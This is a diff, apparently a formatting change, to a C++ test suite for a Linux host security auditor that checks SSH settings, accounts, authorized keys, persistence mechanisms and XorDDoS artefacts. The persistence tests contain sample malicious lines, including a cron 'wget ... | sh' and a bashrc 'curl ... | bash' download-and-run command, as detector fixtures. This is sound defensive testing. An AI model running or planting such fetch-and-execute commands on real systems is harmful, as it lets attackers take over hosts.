@@ -35,7 +35,9 @@ std::vector<std::string> ids(const std::vector<Finding>& f) {
 
 }  // namespace
 
-TEST(SshRules, HardenedConfigIsQuiet) { EXPECT_TRUE(ssh_findings(main_only(), hardened()).empty()); }
+TEST(SshRules, HardenedConfigIsQuiet) {
+    EXPECT_TRUE(ssh_findings(main_only(), hardened()).empty());
+}
 
 TEST(SshRules, EachRiskySetting) {
     auto s = hardened();
@@ -62,7 +64,8 @@ TEST(SshRules, RootAndEmptyPasswordsAreLatentWithoutPasswordLogins) {
               (std::vector<std::string>{"ssh.root_login:low", "ssh.empty_passwords:low"}));
     s.values["passwordauthentication"].value = "yes";
     EXPECT_EQ(ids(ssh_findings(main_only(), s)),
-              (std::vector<std::string>{"ssh.password_auth:high", "ssh.root_login:high", "ssh.empty_passwords:high"}));
+              (std::vector<std::string>{"ssh.password_auth:high", "ssh.root_login:high",
+                                        "ssh.empty_passwords:high"}));
 }
 
 TEST(SshRules, MatchBlockTurningPasswordsBackOn) {
@@ -92,7 +95,8 @@ namespace {
 
 Accounts accounts(const std::string& root_hash) {
     Accounts a;
-    a.passwd = {{"root", 0, 0, "/root", "/bin/bash", 1}, {"alice", 1000, 1000, "/home/alice", "/bin/bash", 2}};
+    a.passwd = {{"root", 0, 0, "/root", "/bin/bash", 1},
+                {"alice", 1000, 1000, "/home/alice", "/bin/bash", 2}};
     a.shadow = {{"root", root_hash, std::nullopt, 1}, {"alice", "$y$j9T$x$y", std::nullopt, 2}};
     a.shadow_read = true;
     return a;
@@ -114,7 +118,8 @@ TEST(AccountRules, RootPasswordSeverityFollowsSsh) {
     auto s = hardened();
     s.values["passwordauthentication"].value = "yes";
     s.values["permitrootlogin"].value = "yes";
-    EXPECT_EQ(ids(account_findings(accounts("$6$salt$hash"), s)), std::vector<std::string>{"account.root_password:high"});
+    EXPECT_EQ(ids(account_findings(accounts("$6$salt$hash"), s)),
+              std::vector<std::string>{"account.root_password:high"});
 }
 
 TEST(AccountRules, EmptyPasswordsAndExtraRoot) {
@@ -160,7 +165,8 @@ TEST(KeyRules, RecentChanges) {
 TEST(KeyRules, UnknownAndBotnetKeys) {
     std::vector<AuthorizedKeysFile> files = {
         key_file(90 * 86400, {key(1, "SHA256:mine", "me"), key(2, "SHA256:evil", "mdrfckr")})};
-    EXPECT_EQ(ids(key_findings(files, std::nullopt, "k", kNow)), std::vector<std::string>{"keys.malicious:high"});
+    EXPECT_EQ(ids(key_findings(files, std::nullopt, "k", kNow)),
+              std::vector<std::string>{"keys.malicious:high"});
     std::set<std::string> known = {"SHA256:mine"};
     auto f = key_findings(files, known, "/etc/ctguard/known_keys", kNow);
     EXPECT_EQ(ids(f), (std::vector<std::string>{"keys.malicious:high", "keys.unknown:high"}));
@@ -191,9 +197,10 @@ PersistenceScan scan_of(StartupKind kind, std::string path, std::string text, bo
 }  // namespace
 
 TEST(PersistenceRules, StartupFiles) {
-    auto f = persistence_findings(scan_of(StartupKind::crontab, "/etc/crontab",
-                                          "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"
-                                          "* * * * * root wget -qO- http://x/a | sh\n"));
+    auto f =
+        persistence_findings(scan_of(StartupKind::crontab, "/etc/crontab",
+                                     "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"
+                                     "* * * * * root wget -qO- http://x/a | sh\n"));
     ASSERT_EQ(ids(f), std::vector<std::string>{"persist.cron.download:high"});
     EXPECT_EQ(f[0].line, 3);
 
@@ -203,48 +210,61 @@ TEST(PersistenceRules, StartupFiles) {
     EXPECT_EQ(ids(persistence_findings(scan_of(StartupKind::user_crontab, "/var/spool/cron/crontabs/bob",
                                                "# m h dom mon dow command\n0 1 * * * /usr/bin/backup\n"))),
               std::vector<std::string>{"persist.cron.user_crontab:low"});
-    EXPECT_TRUE(persistence_findings(scan_of(StartupKind::user_crontab, "/var/spool/cron/crontabs/bob", "# none\n")).empty());
+    EXPECT_TRUE(
+        persistence_findings(scan_of(StartupKind::user_crontab, "/var/spool/cron/crontabs/bob", "# none\n"))
+            .empty());
 
     EXPECT_EQ(ids(persistence_findings(scan_of(StartupKind::systemd_unit, "/etc/systemd/system/a.service",
                                                "[Service]\nExecStart=-/var/tmp/.a/b\n"))),
               std::vector<std::string>{"persist.systemd.writable_exec:high"});
-    EXPECT_TRUE(persistence_findings(scan_of(StartupKind::systemd_unit, "/lib/systemd/system/a.service",
-                                             "[Service]\nExecStart=/usr/sbin/a\nWorkingDirectory=/tmp/.a\n", true))
-                    .empty());
+    EXPECT_TRUE(
+        persistence_findings(scan_of(StartupKind::systemd_unit, "/lib/systemd/system/a.service",
+                                     "[Service]\nExecStart=/usr/sbin/a\nWorkingDirectory=/tmp/.a\n", true))
+            .empty());
 
-    EXPECT_TRUE(persistence_findings(scan_of(StartupKind::rc_local, "/etc/rc.local", "#!/bin/sh -e\nexit 0\n")).empty());
-    EXPECT_EQ(ids(persistence_findings(scan_of(StartupKind::rc_local, "/etc/rc.local", "#!/bin/sh\n/usr/bin/ok\n"))),
+    EXPECT_TRUE(
+        persistence_findings(scan_of(StartupKind::rc_local, "/etc/rc.local", "#!/bin/sh -e\nexit 0\n"))
+            .empty());
+    EXPECT_EQ(ids(persistence_findings(
+                  scan_of(StartupKind::rc_local, "/etc/rc.local", "#!/bin/sh\n/usr/bin/ok\n"))),
               std::vector<std::string>{"persist.rc_local:medium"});
 
-    EXPECT_EQ(ids(persistence_findings(scan_of(StartupKind::init_script, "/etc/init.d/abcxyz", "#!/bin/sh\n"))),
-              std::vector<std::string>{"persist.initd.unowned:medium"});
-    EXPECT_TRUE(persistence_findings(scan_of(StartupKind::init_script, "/etc/init.d/ssh", "#!/bin/sh\n", true)).empty());
+    EXPECT_EQ(
+        ids(persistence_findings(scan_of(StartupKind::init_script, "/etc/init.d/abcxyz", "#!/bin/sh\n"))),
+        std::vector<std::string>{"persist.initd.unowned:medium"});
+    EXPECT_TRUE(
+        persistence_findings(scan_of(StartupKind::init_script, "/etc/init.d/ssh", "#!/bin/sh\n", true))
+            .empty());
 
-    EXPECT_EQ(ids(persistence_findings(scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "# c\n/lib/x.so\n"))),
-              std::vector<std::string>{"persist.ld_preload:high"});
-    EXPECT_TRUE(persistence_findings(scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "\n# nothing\n")).empty());
-    EXPECT_EQ(ids(persistence_findings(scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "/tmp/.x.so\n"))),
-              std::vector<std::string>{"persist.ld_preload:high"});
+    EXPECT_EQ(
+        ids(persistence_findings(scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "# c\n/lib/x.so\n"))),
+        std::vector<std::string>{"persist.ld_preload:high"});
+    EXPECT_TRUE(persistence_findings(scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "\n# nothing\n"))
+                    .empty());
+    EXPECT_EQ(
+        ids(persistence_findings(scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "/tmp/.x.so\n"))),
+        std::vector<std::string>{"persist.ld_preload:high"});
 
-    EXPECT_EQ(ids(persistence_findings(scan_of(StartupKind::shell_rc, "/root/.bashrc", "curl -s x | bash\n"))),
-              std::vector<std::string>{"persist.shell_rc.download:high"});
-    EXPECT_TRUE(persistence_findings(scan_of(StartupKind::shell_rc, "/root/.bashrc", ". ~/.cargo/env\n")).empty());
+    EXPECT_EQ(
+        ids(persistence_findings(scan_of(StartupKind::shell_rc, "/root/.bashrc", "curl -s x | bash\n"))),
+        std::vector<std::string>{"persist.shell_rc.download:high"});
+    EXPECT_TRUE(
+        persistence_findings(scan_of(StartupKind::shell_rc, "/root/.bashrc", ". ~/.cargo/env\n")).empty());
 }
 
 TEST(PersistenceRules, XorDdosAndBinaries) {
     auto s = scan_of(StartupKind::cron_script, "/etc/cron.hourly/gcc.sh", "#!/bin/sh\n");
-    s.drops = {{"/lib/libudev.so", false, false, true},
-               {"/boot/oygkkvkdyx", false, true, true},
+    s.drops = {{"/lib/libudev.so", false, false, true},         {"/boot/oygkkvkdyx", false, true, true},
                {"/boot/initrd.img-6.1.0", false, false, false},  // generated, not a program
-               {"/boot/vmlinuz-6.1.0", true, false, false},
-               {"/lib/udev/udev", false, true, true},
+               {"/boot/vmlinuz-6.1.0", true, false, false},     {"/lib/udev/udev", false, true, true},
                {"/lib/udev/ata_id", true, true, true}};
     s.binaries = {{"/bin/ps", "procps", "aaa", "bbb"},
                   {"/bin/ss", "iproute2", "ccc", "ccc"},
                   {"/bin/netstat", "", "", "ddd"}};
     EXPECT_EQ(ids(persistence_findings(s)),
-              (std::vector<std::string>{"xorddos.gcc_sh:high", "xorddos.libudev:high", "xorddos.boot_file:high",
-                                        "xorddos.udev_file:high", "binary.modified:high", "binary.unowned:medium"}));
+              (std::vector<std::string>{"xorddos.gcc_sh:high", "xorddos.libudev:high",
+                                        "xorddos.boot_file:high", "xorddos.udev_file:high",
+                                        "binary.modified:high", "binary.unowned:medium"}));
     // Without dpkg's records "no package installed it" means nothing.
     s.dpkg = false;
     EXPECT_EQ(ids(persistence_findings(s)), std::vector<std::string>{"xorddos.gcc_sh:high"});
@@ -255,11 +275,12 @@ TEST(AuditRules, MostSevereFirstAndCounts) {
     in.sshd = main_only();
     in.ssh = hardened();
     in.ssh.values["permitrootlogin"].value = "yes";  // low: password logins are off
-    in.accounts = accounts("$6$salt$hash");            // medium
+    in.accounts = accounts("$6$salt$hash");          // medium
     in.persistence = scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "/lib/x.so\n");  // high
     auto r = run_audit_rules(in);
-    EXPECT_EQ(ids(r.findings), (std::vector<std::string>{"persist.ld_preload:high", "account.root_password:medium",
-                                                          "ssh.root_login:low"}));
+    EXPECT_EQ(ids(r.findings),
+              (std::vector<std::string>{"persist.ld_preload:high", "account.root_password:medium",
+                                        "ssh.root_login:low"}));
     EXPECT_EQ(r.ssh.source, "parser");
     in.sshd.found = false;
     EXPECT_EQ(run_audit_rules(in).ssh.source, "none");
